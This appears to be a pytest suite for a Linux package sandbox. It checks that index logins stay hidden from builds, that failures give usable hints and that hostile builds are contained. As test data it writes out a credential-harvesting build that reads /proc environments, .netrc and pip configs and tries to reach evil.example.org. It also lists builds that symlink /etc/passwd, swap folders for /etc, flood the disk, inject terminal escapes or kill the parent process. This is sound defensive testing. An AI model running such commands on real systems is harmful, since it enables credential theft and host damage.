"""packages= from an index on the test ground, as root and as an ordinary user: what is resolved, kept and refused."""

import sys
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from support.index import run_with_index
from support.user import open_ordinary_user

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the embedded engine is Linux only")

Run = Callable[..., dict[str, Any]]


@pytest.fixture(
    params=[
        pytest.param("root", marks=pytest.mark.needs_root),
        pytest.param("user", marks=[pytest.mark.needs_user, pytest.mark.needs_userns]),
    ]
)
def on_ground(request: pytest.FixtureRequest) -> Iterator[Run]:
    """Runs a program as each of the two, with an index that has a login."""
    if request.param == "root":
        yield run_with_index
        return
    with open_ordinary_user() as user:
        yield lambda program, **more: run_with_index(program, user=user, **more)


def test_wheels_are_resolved_once_with_a_login_that_stays_outside(on_ground: Run) -> None:
    answer = on_ground(
        """
        make_source(folder, "built", '''
        seen = subprocess.run("env; cat /proc/*/environ /proc/*/cmdline ~/.netrc ~/.config/pip/*", shell=True,
                              capture_output=True).stdout
        try:
            socket.create_connection(("evil.example.org", 80), 5)
        except OSError as error:
            return ["s3cret" in seen.decode(errors="replace"), "refused"]
        ''')
        evil = serve(web, "93.184.215.21", name="evil.example.org")
        events = []
        tell(hello=attempt("hello"), built=attempt("built", on_event=events.append), evil=evil.connections)
        doing = [each.details["doing"].split()[0] for each in events if each.kind == "packages"]
        tell(ends=[doing[0], doing[-1]], between=sorted({"Collecting", "Downloading", "Building"} & {*doing}))
        before = len(INDEX.requests)
        tell(again=attempt("hello"), asked_again=len(INDEX.requests) - before)
        tell(logins=sorted({each["headers"].get("authorization", "") for each in INDEX.requests}))
        """
    )
    assert answer == {
        "hello": "1.0",
        "built": "[False, 'refused']",
        "evil": 0,
        "ends": ["getting", "unpacking"],
        "between": ["Building", "Collecting", "Downloading"],
        "again": "1.0",
        "asked_again": 0,
        "logins": ["Basic dXNlcjpzM2NyZXQ="],
    }


def test_failures_say_what_to_do_and_that_works(on_ground: Run) -> None:
    answer = on_ground(
        """
        import re, shutil
        elsewhere = Path.cwd() / "elsewhere"
        make_wheel(elsewhere, "away")
        shutil.copytree(elsewhere, folder, dirs_exist_ok=True)
        serve(pip_index, "93.184.215.22", name="files.example.org", folder=elsewhere)
        INDEX.options["files"] = "http://files.example.org/files"
        error = attempt("away")
        hint = re.search("network='(.*)'", error[2])[1]
        tell(led_away=error[0], hint=hint, permitted=attempt("away", network=hint), kept=attempt("away"))
        tell(missing=attempt("missing"), version=attempt("away>7"))
        os.environ["PIP_INDEX_URL"] = "http://pip.example.org:81/simple"
        tell(down=attempt("hello"))
        """
    )
    assert (answer["led_away"], answer["hint"]) == ("SpecError", "packages,files.example.org")
    assert (answer["permitted"], answer["kept"]) == ("1.0", "1.0")
    assert answer["missing"][1].endswith("No matching distribution found for missing")
    assert answer["version"][1].endswith("for away>7 (there are 1.0)")
    kind, message, hint = answer["down"]
    assert (kind, message) == (
        "BackendUnavailableError",
        "packages=['hello'] can't be installed: an index can't be reached (no connection to it)",
    )
    assert "http://pip.example.org:81/simple" in hint


HOSTILE = {
    "linker": 'os.symlink("/etc/passwd", "/home/daytona/built/x.whl")',
    "folder": 'os.makedirs("/home/daytona/built/" + "d/" * 500)',
    "many": '[open(f"/home/daytona/built/f{n}.whl", "w").close() for n in range(3000)]',
    "swapper": 'os.rmdir("/home/daytona/built"); os.symlink("/etc", "/home/daytona/built")',
    "talker": 'os.write(2, b"ERROR: \\x1b]0;x\\x07" + b"y" * 100_000); os._exit(1)',
    "stopper": "import signal; os.kill(os.getppid(), signal.SIGKILL)",
}


def test_hostile_builds_end_as_errors_and_leave_nothing(on_ground: Run) -> None:
    answer = on_ground(
        """
        for name, body in hostile.items():
            make_source(folder, name, body)
        tell(told={name: attempt(name) for name in hostile}, good=attempt("hello"))
        kept = Path(os.environ["CORRAL_DATA_DIR"], "packages")
        tell(left=[path.name for path in kept.rglob(".new*")])
        """,
        hostile=HOSTILE,
        timeout=180,
    )
    for name, told in answer["told"].items():
        # A link beside the wheel is not the folder's business: pip itself leaves it out.
        assert told in ("None", "") or told[0] == "SpecError", (name, told)
        assert isinstance(told, str) or (told[1].isprintable() and len(told[1]) < 700), name
    assert {"folder", "many", "talker"} <= {name for name, told in answer["told"].items() if told[0] == "SpecError"}
    assert answer["good"] == "1.0"
    assert answer["left"] == []


def test_processes_that_want_the_same_set_resolve_it_once_and_a_killed_one_is_no_trouble(on_ground: Run) -> None:
    answer = on_ground(
        """
        import subprocess, threading
        INDEX.options["login"] = None
        waiting, free = threading.Event(), threading.Event()
        program = "import sys; from corral import Sandbox\\nwith Sandbox(packages=['hello']) as box: " \\
            "print(box.run_code('import hello; print(hello.version)').output)"
        def begin(): return subprocess.Popen([sys.executable, "-c", program], stdout=subprocess.PIPE, text=True)

        class Slow(Index):
            def do_GET(self):
                waiting.set()
                free.wait(60)
                super().do_GET()

        serve(lambda connection, server: web(connection, server, Slow), "93.184.215.23", name="slow.example.org",
              folder=folder)
        os.environ["PIP_INDEX_URL"] = "http://slow.example.org/simple"
        killed = begin()
        assert waiting.wait(60)
        killed.kill()
        killed.wait()
        free.set()
        both = [begin(), begin()]
        tell(both=[each.communicate(timeout=60)[0].strip() for each in both])
        kept = Path(os.environ["CORRAL_DATA_DIR"], "packages")
        tell(sets=len([path for path in kept.iterdir() if path.name != "wheels" and path.name[0] != "."]))
        """
    )
    assert answer == {"both": ["1.0", "1.0"], "sets": 1}


@pytest.mark.needs_npm
def test_programs_install_from_what_the_hosts_files_name_and_never_see_the_logins(on_ground: Run) -> None:
    """The policy `packages`, with pip.conf, .netrc and .npmrc of the user; and after they were changed."""
    answer = on_ground(
        """
        make_npm_package(folder, "hello")
        npm = serve(npm_registry, "93.184.215.21", name="npm.example.org", folder=folder, url="http://npm.example.org")
        home = Path.cwd() / "home"
        (home / ".config/pip").mkdir(parents=True)
        os.environ["HOME"] = str(home)
        for name in ("PIP_INDEX_URL", "PIP_TRUSTED_HOST", "PIP_CONFIG_FILE", "XDG_CONFIG_HOME"):
            os.environ.pop(name, None)

        def configure(host):
            text = f"[global]\\nindex-url = http://{host}/simple\\ntrusted-host = {host}\\n"
            (home / ".config/pip/pip.conf").write_text(text)

        configure("pip.example.org")
        (home / ".netrc").write_text("machine pip.example.org login user password s3cret\\n")
        (home / ".netrc").chmod(0o600)
        (home / ".npmrc").write_text("registry=http://npm.example.org/\\n//npm.example.org/:_authToken=s3cret\\n")

        def run(command):
            with Sandbox(network="packages") as box:
                result = box.exec(command, timeout=60)
                return result.stdout.strip() if result.ok else [result.output, *map(str, result.denied)]

        install = "pip install -q hello && python3 -c 'import hello; print(hello.version)'"
        tell(pip=run(install), npm=run("npm install -s --no-audit --no-fund hello && node -p 'require(\\"hello\\")'"))
        tell(authorized=npm.requests[0]["headers"]["authorization"])
        # The pattern is no text that it would find in its own command line.
        tell(seen=run("cat /proc/*/environ /proc/*/cmdline ~/.*rc ~/.config/pip/* 2>&1 | grep -ac s3[c]ret || true"))
        configure("other.example.org")
        serve(pip_index, "93.184.215.22", name="other.example.org", folder=folder)
        tell(changed=run(install), before=run("curl -sS -m 10 http://pip.example.org/simple/hello/")[-1])
        """,
        timeout=120,
    )
    assert answer == {
        "pip": "1.0",
        "npm": "1.0.0",
        "authorized": "Bearer s3cret",
        "seen": "0",
        "changed": "1.0",
        "before": "pip.example.org",
    }
